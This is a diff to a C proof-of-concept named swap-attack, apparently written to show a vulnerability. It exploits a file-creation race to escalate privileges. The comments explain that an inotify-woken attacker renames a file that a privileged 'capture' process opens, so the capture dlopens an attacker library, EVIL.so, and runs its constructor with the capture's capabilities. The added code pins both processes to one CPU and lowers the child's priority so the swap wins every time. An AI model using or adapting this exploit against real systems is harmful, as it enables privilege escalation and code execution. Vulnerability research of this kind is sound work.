@@ -11,7 +11,9 @@
 // over that name (the member owns the folder), and lets it go on (SIGCONT).
 // The capture then writes into the file it opened (now unlinked) and dlopens
 // the name: EVIL.so's constructor runs with the capture's capabilities.
-// Renaming at creation, not after the close, makes the swap deterministic.
+// Renaming at creation, not after the close, and running the capture niced
+// on the attacker's CPU (so that the attacker, woken by inotify, preempts it)
+// make the swap win the race every time.
 //
 // Prints one line per step on stderr; exits with the capture's exit status.
 // "swapped" on stdout when it replaced the file, "nothing to swap" otherwise.
@@ -23,6 +25,8 @@
 #include <errno.h>
 #include <limits.h>
 #include <poll.h>
+#include <sched.h>
+#include <sys/resource.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -85,8 +89,13 @@ int main(int argc, char **argv)
 		perror("swap-attack: inotify");
 		return 2;
 	}
+	cpu_set_t one;
+	CPU_ZERO(&one);
+	CPU_SET(sched_getcpu() < 0 ? 0 : sched_getcpu(), &one);
+	sched_setaffinity(0, sizeof one, &one);
 	pid_t pid = fork();
 	if (pid == 0) {
+		setpriority(PRIO_PROCESS, 0, 19);
 		execv(argv[4], argv + 4);
 		perror("swap-attack: exec");
 		_exit(127);
